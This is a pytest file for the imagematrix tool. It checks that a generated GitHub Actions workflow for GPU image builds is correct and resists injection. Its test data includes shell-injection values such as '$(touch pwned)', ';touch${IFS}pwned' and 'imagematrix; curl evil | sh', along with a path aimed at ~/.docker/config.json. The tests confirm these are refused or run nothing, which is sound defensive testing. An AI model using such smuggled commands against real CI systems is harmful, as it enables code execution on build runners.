"""`invoke ci`: the workflow generated from matrix.yaml is the committed one, lints clean with
actionlint and zizmor, and its gate plans the jobs the schedule and the dispatch inputs ask for."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace

import pytest
import yaml

from imagematrix.core import cron
from imagematrix.matrix import workflow as ci
from imagematrix.matrix.model import ScheduleRun


def test_the_committed_workflow_matches_matrix_yaml(sheet_matrix):
    path, diff = ci.write_or_check(sheet_matrix, check=True)
    assert diff is None, f"{path} is out of date; run `invoke ci`:\n{diff}"


def test_check_names_the_difference_when_the_schedule_changes(sheet_matrix):
    changed = replace(sheet_matrix, schedule=(*sheet_matrix.schedule, ScheduleRun("30 4 * * 6", (4,))))
    _, diff = ci.write_or_check(changed, check=True)
    assert diff and "+  - cron: 30 19 * * 5" in diff  # Saturday 04:30 in Tokyo is Friday 19:30 UTC


def test_the_workflow_has_what_a_gpu_runner_needs(sheet_matrix):
    wf = yaml.safe_load(ci.render_workflow(sheet_matrix))
    assert [s["cron"] for s in wf["on"]["schedule"]] == ["0 17 * * *"]  # 02:00 in Tokyo, one time of day
    assert set(wf["on"]["workflow_dispatch"]["inputs"]) == {"phase", "cuda", "python", "target"}
    assert wf["permissions"] == {} and wf["concurrency"]["cancel-in-progress"] is False
    job = wf["jobs"]["build-test"]
    assert job["runs-on"] == ["self-hosted", "linux", "x64", "gpu"] and job["permissions"] == {"contents": "read"}
    runs = [s.get("run", "") for s in job["steps"]]
    for want in (
        'imagematrix doctor "${args[@]}"',
        'imagematrix build "${args[@]}"',
        'imagematrix test --suite smoke --require-gpu "${again[@]}" "${args[@]}"',
        'imagematrix report "${args[@]}"',
    ):
        assert any(want in r for r in runs), want
    assert any("GITHUB_STEP_SUMMARY" in r for r in runs)
    upload = job["steps"][-1]
    assert upload["uses"].startswith("actions/upload-artifact@") and "history.jsonl" in upload["with"]["path"]
    assert all("${{" not in r for r in runs), "the selection reaches run: only through env"


def test_the_workflow_installs_the_tool_and_assumes_no_checkout_of_imagematrix(sheet_matrix):
    """Another team's repository has no src/ and no noxfile: every step calls the installed command."""
    team = replace(sheet_matrix, ci=replace(sheet_matrix.ci, install="imagematrix==0.1.0"))
    text = ci.render_workflow(team)
    wf = yaml.safe_load(text)
    assert "PYTHONPATH=src" not in text and "pip install -e" not in text and "invoke " not in text.split("\n\n", 1)[1]
    assert "nox " not in text
    assert wf["jobs"]["build-test"]["env"]["IMAGEMATRIX_INSTALL"] == "imagematrix==0.1.0"
    assert wf["jobs"]["plan"]["steps"][1]["env"]["IMAGEMATRIX_INSTALL"] == "imagematrix==0.1.0"


def _gate(env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "imagematrix.core.cron", "plan"],
        capture_output=True,
        text=True,
        env={**os.environ, **env},
        check=False,
    )


def test_the_gate_plans_one_job_per_family_from_the_dispatch_inputs(sheet_matrix):
    wf = yaml.safe_load(sheet_matrix.ci.workflow.read_text())
    schedule = wf["jobs"]["plan"]["steps"][1]["env"]["IMAGEMATRIX_SCHEDULE"]
    done = _gate(
        {"IMAGEMATRIX_SCHEDULE": schedule, "FIRED": "", "PHASE": "5", "CUDA": "all", "PYTHON": "all", "TARGET": "all"}
    )
    assert done.returncode == 0, done.stderr
    jobs = json.loads(done.stdout.removeprefix("jobs="))
    assert [(j["cuda"], j["python"], j["phases"], j["target"]) for j in jobs] == [
        ("13.1.1", "3.14", "5", ""),
        ("12.8.1", "3.14", "5", ""),
    ]
    done = _gate({"IMAGEMATRIX_SCHEDULE": schedule, "FIRED": "", "PHASE": "9"})
    assert done.returncode == 2 and "phase '9' is not in the matrix" in done.stderr
    done = _gate({"IMAGEMATRIX_SCHEDULE": "{not json", "FIRED": ""})
    assert done.returncode == 2 and "regenerate the workflow" in done.stderr and "Traceback" not in done.stderr


def test_the_first_of_the_month_runs_every_phase_once_per_family(sheet_matrix):
    fam = ci.families(sheet_matrix)
    jobs = cron.plan_jobs(fam, [1, 2, 3, 4, 5])
    assert len(jobs) == len(fam["*"]) == 3  # cells of several phases are built by one job, once
    assert (jobs[0]["cuda"], jobs[0]["python"], jobs[0]["phases"]) == ("12.8.1", "3.13", "1 2")


@pytest.mark.parametrize("late_minutes", [0, 50])
def test_scheduled_plan_for_a_monday_in_tokyo(sheet_matrix, late_minutes):
    from datetime import datetime, timedelta, timezone

    g = ci.gate_config(sheet_matrix)
    now = datetime(2026, 11, 29, 17, 0, tzinfo=timezone.utc) + timedelta(minutes=late_minutes)  # Mon 02:00 JST
    phases = cron.due(g["runs"], g["timezone"], "0 17 * * *", now)
    assert phases == [1]
    assert [j["phases"] for j in cron.plan_jobs(g["families"], phases)] == ["1"]


def test_the_monthly_run_tests_again_and_the_weekly_ones_reuse(sheet_matrix, tmp_path):
    from datetime import datetime, timezone

    g = ci.gate_config(sheet_matrix)
    monthly = datetime(2026, 11, 30, 17, 0, tzinfo=timezone.utc)  # Tue 1 Dec 02:00 JST: the monthly run only
    found = cron.due_with_retest(g["runs"], g["timezone"], "0 17 * * *", monthly)
    assert found and all(again for _, again in found)
    monday = datetime(2026, 11, 29, 17, 0, tzinfo=timezone.utc)
    assert cron.due_with_retest(g["runs"], g["timezone"], "0 17 * * *", monday) == [(1, False)]
    jobs = cron.plan_jobs(g["families"], [p for p, _ in found], retest=[p for p, again in found if again])
    assert {j["retest"] for j in jobs} == {"1"}
    assert {j["retest"] for j in cron.plan_jobs(g["families"], [1])} == {""}
    # The test step passes --no-reuse exactly when the job says RETEST=1.
    wf = yaml.safe_load(ci.render_workflow(sheet_matrix))
    step = next(s for s in wf["jobs"]["build-test"]["steps"] if s["name"] == "GPU suite (smoke)")
    stubs = tmp_path / "stubs"
    stubs.mkdir()
    (stubs / "imagematrix").write_text(STUB)
    (stubs / "imagematrix").chmod(0o755)
    base = {"IMAGEMATRIX_MATRIX": "matrix.yaml", "CUDA": "12.8.1", "PYTHON": "3.13", "PHASES": "1", "TARGET": ""}
    for retest, want in (("1", True), ("", False)):
        (tmp_path / "calls").unlink(missing_ok=True)
        assert _run_step(step["run"], {**base, "RETEST": retest}, tmp_path, stubs) == 0
        argv = json.loads((tmp_path / "calls").read_text().splitlines()[0])
        assert ("--no-reuse" in argv) is want, argv


# --- a hostile job cannot make the workflow run anything but imagematrix ------------------------------

STUB = f"""#!{sys.executable}
import json, os, shutil, sys
name = os.path.basename(sys.argv[0])
with open(os.environ["CALLS"], "a") as f:
    f.write(json.dumps([name, *sys.argv[1:]]) + "\\n")
if sys.argv[1:3] == ["-m", "venv"]:
    os.makedirs(sys.argv[3] + "/bin", exist_ok=True)
    shutil.copy(sys.argv[0], sys.argv[3] + "/bin/pip")
if sys.argv[1:3] == ["-m", "imagematrix.core.cron"]:
    print("jobs=[]")
"""
HOSTILE = {
    "CUDA": "12.8.1 * ;touch${IFS}pwned",
    "PYTHON": "$(touch pwned)",
    "TARGET": '"; touch pwned; "',
    "IMAGEMATRIX_MATRIX": "m;touch${IFS}pwned;.yaml",
    "IMAGEMATRIX_INSTALL": "x; touch pwned",
    "KEEP_IMAGES": "2`touch pwned`",
    "FIRED": "0 17 * * *\ntouch pwned",
    "PHASE": "1;touch pwned",
    "RETEST": "1; touch pwned",
}


def _run_step(script: str, env: dict[str, str], cwd, stubs) -> int:
    env = {
        **env,
        "PATH": str(stubs),
        "CALLS": str(cwd / "calls"),
        "GITHUB_OUTPUT": str(cwd / "out"),
        "GITHUB_PATH": str(cwd / "path"),
        "GITHUB_STEP_SUMMARY": str(cwd / "summary"),
        "RUNNER_TEMP": str(cwd),
    }
    return subprocess.run(
        ["/bin/bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    ).returncode


@pytest.mark.parametrize("phases", ["1 2", "1 `touch pwned`", "*", "1;touch pwned"])
def test_hostile_values_reach_the_tool_as_single_arguments_and_run_nothing_else(sheet_matrix, tmp_path, phases):
    """Every run: script of the workflow under bash -eo pipefail with stub commands, every value set by
    the environment hostile: nothing but the stubs runs, and each value arrives whole."""
    stubs = tmp_path / "stubs"
    stubs.mkdir()
    for name in ("imagematrix", "python3", "cat"):
        (stubs / name).write_text(STUB)
        (stubs / name).chmod(0o755)
    (tmp_path / "*").write_text("a file a glob would find")
    wf = yaml.safe_load(ci.render_workflow(sheet_matrix))
    codes = []
    for job in wf["jobs"].values():
        for step in job["steps"]:
            if "run" not in step:
                continue
            env = {
                **{k: str(v) for k, v in {**job.get("env", {}), **step.get("env", {})}.items()},
                **HOSTILE,
                "PHASES": phases,
            }
            codes.append(_run_step(step["run"], env, tmp_path, stubs))
    assert not (tmp_path / "pwned").exists()
    calls = [json.loads(c) for c in (tmp_path / "calls").read_text().splitlines()]
    assert {c[0] for c in calls} <= {"imagematrix", "python3", "cat", "pip"}
    tool = [c[1:] for c in calls if c[0] == "imagematrix" and c[1] != "prune"]
    for argv in tool:  # each hostile value is one argument, exactly as it was set
        for flag, key in (("--cuda", "CUDA"), ("--python", "PYTHON"), ("--matrix", "IMAGEMATRIX_MATRIX")):
            assert argv[argv.index(flag) + 1] == HOSTILE[key]
        assert argv[argv.index("--target") + 1] == HOSTILE["TARGET"]
    if phases == "1 2":
        assert len(tool) == 4 and all(a.count("--phase") == 2 for a in tool)
    else:  # a phase that is not a number stops the step before the tool runs
        assert tool == [] and 2 in codes
    prune = [c[1:] for c in calls if c[0] == "imagematrix" and c[1] == "prune"]
    assert prune == [["prune", "--keep", HOSTILE["KEEP_IMAGES"], "--cache-hours", "336"]]


@pytest.mark.parametrize(
    ("key", "value", "needle"),
    [
        ("state_dir", "/var/lib/x\n~/.docker/config.json", "absolute path of plain names"),
        ("runs_on", ["gpu", "${{ github.token }}"], "not a runner label"),
        ("runs_on", ["gpu\nx: 1"], "not a runner label"),
        ("workflow", "../../../x.yml", "not a workflow file in .github/workflows/"),
        ("gate_runs_on", "ubuntu-latest\n", "not a runner label"),
        ("install", "imagematrix; curl evil | sh", "not a pip requirement"),
    ],
)
def test_ci_settings_are_refused_at_load(tmp_path, repo_root, key, value, needle):
    from imagematrix.core.errors import MatrixError
    from imagematrix.matrix.load import load_matrix

    data = yaml.safe_load((repo_root / "examples" / "matrix.yaml").read_text())
    data["build"]["fragments_dir"] = str(repo_root / "dockerfiles")
    data.setdefault("ci", {})[key] = value
    path = tmp_path / "matrix.yaml"
    path.write_text(yaml.safe_dump(data))
    with pytest.raises(MatrixError, match="ci") as err:
        load_matrix(path)
    assert needle in str(err.value)


def test_a_matrix_file_name_that_is_not_plain_is_refused(example_matrix, tmp_path):
    odd = replace(example_matrix, path=tmp_path / "m;touch${IFS}pwned;.yaml")
    with pytest.raises(ci.CIError, match="rename it"):
        ci.render_workflow(odd)
    odd = replace(example_matrix, path=tmp_path / "m\nx: 1.yaml")
    with pytest.raises(ci.CIError, match="rename it"):
        ci.render_workflow(odd)


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"timezone": "Mars/Olympus_Mons"}, "time zone 'Mars/Olympus_Mons' is not one this host knows"),
        ({"timezone": 9}, "time zone '9' is not one this host knows"),
        ({"runs": [{"cron": "61 * * * *", "phases": [1]}]}, "run "),
        ({"runs": "0 17 * * *"}, "'runs' is not a list of objects"),
        ({"choices": {"phase": ["1"]}}, "'choices' lacks a list"),
    ],
)
def test_the_gate_refuses_a_hand_edited_schedule_with_the_reason(sheet_matrix, change, why):
    wf = yaml.safe_load(sheet_matrix.ci.workflow.read_text())
    schedule = {**json.loads(wf["jobs"]["plan"]["steps"][1]["env"]["IMAGEMATRIX_SCHEDULE"]), **change}
    for fired in ("0 17 * * *", ""):
        done = _gate({"IMAGEMATRIX_SCHEDULE": json.dumps(schedule), "FIRED": fired})
        assert done.returncode == 2 and why in done.stderr and "Traceback" not in done.stderr, done.stderr


def test_the_gate_has_help():
    done = subprocess.run([sys.executable, "-m", "imagematrix.core.cron", "--help"], capture_output=True, text=True)
    assert done.returncode == 0 and "usage:" in done.stdout


# --- publish and the keyless path (ci.publish) -------------------------------------------------------


def _with_publish(m, *modes: str):
    return replace(m, ci=replace(m.ci, publish=modes))


def _build_steps(m) -> list[dict]:
    return yaml.safe_load(ci.render_workflow(m))["jobs"]["build-test"]["steps"]


def test_without_ci_publish_the_workflow_publishes_nothing_and_asks_for_no_token(sheet_matrix):
    wf = yaml.safe_load(ci.render_workflow(sheet_matrix))
    assert wf["jobs"]["build-test"]["permissions"] == {"contents": "read"}
    assert not [s for s in _build_steps(sheet_matrix) if "publish" in s.get("run", "") or "attest" in s.get("uses", "")]


def test_the_key_path_publishes_after_the_suite_with_the_secret_and_stops_when_it_is_empty(sheet_matrix, tmp_path):
    m = _with_publish(sheet_matrix, "key")
    steps = _build_steps(m)
    names = [s["name"] for s in steps]
    assert names.index("Publish") == names.index("GPU suite (smoke)") + 1
    publish = steps[names.index("Publish")]
    assert publish["env"] == {"IMAGEMATRIX_SIGNING_KEY": "${{ secrets.IMAGEMATRIX_SIGNING_KEY }}"}
    assert not any("attest" in s.get("uses", "") for s in steps)
    assert yaml.safe_load(ci.render_workflow(m))["jobs"]["build-test"]["permissions"] == {"contents": "read"}
    stubs = tmp_path / "stubs"
    stubs.mkdir()
    (stubs / "imagematrix").write_text(STUB)
    (stubs / "imagematrix").chmod(0o755)
    env = {**HOSTILE, "PHASES": "1", "IMAGEMATRIX_SIGNING_KEY": ""}
    assert _run_step(publish["run"], env, tmp_path, stubs) == 2 and not (tmp_path / "calls").exists()
    env["IMAGEMATRIX_SIGNING_KEY"] = "-----BEGIN PRIVATE KEY-----\n$(touch pwned)"
    assert _run_step(publish["run"], env, tmp_path, stubs) == 0 and not (tmp_path / "pwned").exists()
    argv = json.loads((tmp_path / "calls").read_text())
    assert argv[:2] == ["imagematrix", "publish"] and argv[argv.index("--cuda") + 1] == HOSTILE["CUDA"]


def test_the_keyless_path_attests_each_cell_a_job_can_publish_with_a_pinned_action(sheet_matrix):
    from imagematrix.evidence.attest import TEST_RESULT_TYPE

    m = _with_publish(sheet_matrix, "key", "github")
    wf = yaml.safe_load(ci.render_workflow(m))
    job = wf["jobs"]["build-test"]
    assert job["permissions"] == {"contents": "read", "id-token": "write", "attestations": "write"}
    assert wf["permissions"] == {} and wf["jobs"]["plan"]["permissions"] == {"contents": "read"}
    publish = next(s for s in job["steps"] if s["name"] == "Publish")
    assert publish["id"] == "publish" and 'imagematrix publish --attest-github "${args[@]}"' in publish["run"]
    attest = [s for s in job["steps"] if s.get("uses", "").startswith("actions/attest@")]
    slots = list(dict.fromkeys(ci.output_slot(c) for c in m.cells))
    assert [s["name"] for s in attest] == [f"Attest {t}'s smoke result (GitHub, keyless)" for t in slots]
    assert set(slots) == set(m.targets)  # one platform: a slot per target
    for step, slot in zip(attest, slots, strict=True):
        sha = step["uses"].split("@")[1]
        assert len(sha) == 40 and all(c in "0123456789abcdef" for c in sha)
        names = ci.step_outputs(slot, "smoke")
        assert step["if"] == f"!cancelled() && steps.publish.outputs.{names['digest']} != ''"
        assert step["with"]["predicate-type"] == TEST_RESULT_TYPE
        assert step["with"]["subject-digest"] == f"${{{{ steps.publish.outputs.{names['digest']} }}}}"
        assert step["with"]["predicate-path"] == f"${{{{ steps.publish.outputs.{names['predicate']} }}}}"
        assert step["with"]["push-to-registry"] is True


def test_a_two_platform_matrix_attests_each_architecture_of_a_target(sheet_matrix):
    from imagematrix.matrix.model import make_cell

    m = _with_publish(sheet_matrix, "github")
    cuda = next(iter(m.cudas.values()))
    two = replace(m, platforms=("linux/amd64", "linux/arm64"))
    cells = tuple(make_cell(two, cuda, m.pythons[0], t, platform=p) for t in m.targets.values() for p in two.platforms)
    two = replace(two, cells=cells)
    attest = [s["name"] for s in _build_steps(two) if s.get("uses", "").startswith("actions/attest@")]
    assert "Attest devel-arm64's smoke result (GitHub, keyless)" in attest and len(attest) == 2 * len(m.targets)


def test_publishing_from_the_workflow_with_a_suite_it_never_runs_is_refused(sheet_matrix):
    m = replace(_with_publish(sheet_matrix, "key"), publish_require=("smoke", "full"))
    with pytest.raises(ci.CIError, match=r"publish.require is \['smoke', 'full'\]: every cell would be refused"):
        ci.render_workflow(m)


@pytest.mark.parametrize(
    ("value", "needle"),
    [([], "at least 1"), (["cosign"], "unknown value 'cosign' (allowed: key, github)"), ("key", "list")],
)
def test_ci_publish_attest_is_refused_when_it_names_no_known_way(tmp_path, repo_root, value, needle):
    from imagematrix.core.errors import MatrixError
    from imagematrix.matrix.load import load_matrix

    data = yaml.safe_load((repo_root / "examples" / "matrix.yaml").read_text())
    data["build"]["fragments_dir"] = str(repo_root / "dockerfiles")
    data.setdefault("ci", {})["publish"] = {"attest": value}
    path = tmp_path / "matrix.yaml"
    path.write_text(yaml.safe_dump(data))
    with pytest.raises(MatrixError, match=r"ci\.publish\.attest") as err:
        load_matrix(path)
    assert needle in str(err.value)
